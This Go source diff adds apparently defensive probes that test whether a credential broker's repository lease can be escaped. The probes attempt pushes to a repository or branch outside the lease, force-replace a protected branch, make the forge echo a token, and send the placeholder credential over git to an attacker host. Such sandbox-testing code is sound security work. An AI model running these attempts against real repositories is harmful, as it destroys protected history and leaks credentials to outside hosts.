@@ -1,0 +1,134 @@
+package tok
+
+import (
+	"context"
+	"fmt"
+	"net/http"
+	"net/url"
+	"strconv"
+	"strings"
+
+	"github.com/wallproof/wallproof/attest/manifest"
+	"github.com/wallproof/wallproof/probes"
+	"github.com/wallproof/wallproof/probes/kit"
+	"github.com/wallproof/wallproof/probes/paths"
+)
+
+const receivePack = "git-receive-pack"
+
+// repository is a request to a git repository over smart HTTP.
+func repository(env *probes.Env, repo, suffix string) (*kit.Request, error) {
+	u, err := url.Parse(repo)
+	if err != nil || u.Hostname() == "" {
+		return nil, fmt.Errorf("read the repository's address %q: no URL", repo)
+	}
+	r := &kit.Request{Scheme: u.Scheme, Host: u.Hostname(), Path: strings.TrimSuffix(u.Path, "/") + suffix,
+		Header: []string{basic(env.Facts.Broker.Placeholder)}}
+	if u.Port() != "" {
+		if r.Port, err = strconv.Atoi(u.Port()); err != nil {
+			return nil, fmt.Errorf("read the repository's address %q: %w", repo, err)
+		}
+	}
+	return r, nil
+}
+
+// leaseRepository asks to write to a repository that the lease is not for. To
+// have been let through to ask is the escape.
+func leaseRepository(ctx context.Context, env *probes.Env) manifest.Observation {
+	r, err := repository(env, env.Facts.Broker.OtherRepo, "/info/refs?service="+receivePack)
+	if err != nil {
+		return kit.Sign(err)
+	}
+	return kit.Web(ctx, env, r)
+}
+
+// leaseRef pushes a new branch outside the lease's pattern.
+func leaseRef(ctx context.Context, env *probes.Env) manifest.Observation {
+	return push(ctx, env, func(refs map[string]string) (update, error) {
+		_, head, err := someBranch(refs, env.Facts.Broker.OtherRef)
+		return update{old: zeroID, new: head, ref: "refs/heads/" + env.Nonce, pack: emptyPack()}, err
+	})
+}
+
+// leaseForce replaces a protected branch by a history of its own.
+func leaseForce(ctx context.Context, env *probes.Env) manifest.Observation {
+	return push(ctx, env, func(refs map[string]string) (update, error) {
+		ref, head, err := someBranch(refs, env.Facts.Broker.OtherRef)
+		commit, pack := orphan("wallproof " + env.Nonce)
+		return update{old: head, new: commit, ref: ref, pack: pack}, err
+	})
+}
+
+// push does what a git client does: it asks for the refs, then sends an update.
+func push(ctx context.Context, env *probes.Env, choose func(refs map[string]string) (update, error)) manifest.Observation {
+	t := kit.Begin(env)
+	defer t.End()
+	way, v6 := kit.WayOf(env.Variant)
+	ask, err := repository(env, env.Facts.Broker.Repo, "/info/refs?service="+receivePack)
+	if err != nil {
+		return kit.Sign(err)
+	}
+	a, err := t.HTTP(ctx, way, v6, ask)
+	if err != nil {
+		return t.Fail(err)
+	}
+	if a.Status != http.StatusOK {
+		return t.Done(answered(kit.Observe(a)))
+	}
+	u, err := choose(parseRefs(a.Body))
+	if err != nil {
+		return t.Fail(err)
+	}
+	send, err := repository(env, env.Facts.Broker.Repo, "/"+receivePack)
+	if err != nil {
+		return kit.Sign(err)
+	}
+	send.Method = http.MethodPost
+	send.Header = append(send.Header, "Content-Type: application/x-git-receive-pack-request", "Accept: application/x-git-receive-pack-result")
+	send.Body = u.bytes()
+	b, err := t.HTTP(ctx, way, v6, send)
+	if err != nil {
+		return t.Fail(err)
+	}
+	o := answered(kit.Observe(b))
+	if o.Sign == manifest.SignAnswered {
+		// The report of a refused update is a refusal too (git's report-status).
+		if line := reportOf(b.Body, u.ref); strings.HasPrefix(line, "ng ") {
+			o.Sign, o.Detail = manifest.SignRefused, line
+		}
+	}
+	return t.Done(o)
+}
+
+// answered says of an exchange with the forge, which the policy allows, that its
+// proof is none.
+func answered(o manifest.Observation) manifest.Observation {
+	if o.Sign == manifest.SignReached && len(o.Obtained) == 0 {
+		o.Sign = manifest.SignAnswered
+	}
+	return o
+}
+
+// leaseEcho asks the forge's host to repeat the token.
+func leaseEcho(ctx context.Context, env *probes.Env) manifest.Observation {
+	var list []*kit.Request
+	for _, encoding := range []string{paths.EncodingError, paths.EncodingBase64, paths.EncodingHeader} {
+		r, err := repository(env, env.Facts.Broker.Repo, paths.Build("", paths.Echo, env.Nonce, url.Values{paths.QueryEncoding: {encoding}}))
+		if err != nil {
+			return kit.Sign(err)
+		}
+		list = append(list, r)
+	}
+	return all(ctx, env, list...)
+}
+
+// leaseSteal speaks git to the attacker's host.
+func leaseSteal(ctx context.Context, env *probes.Env) manifest.Observation {
+	r := attacker(env, "https")
+	if way, _ := kit.WayOf(env.Variant); way == kit.Absolute {
+		r.Scheme = "http"
+	}
+	r.Path = "/" + env.Nonce + "/repo.git/info/refs?service=" + receivePack
+	r.Header = []string{basic(env.Facts.Broker.Placeholder)}
+	return web(ctx, env, r)
+}
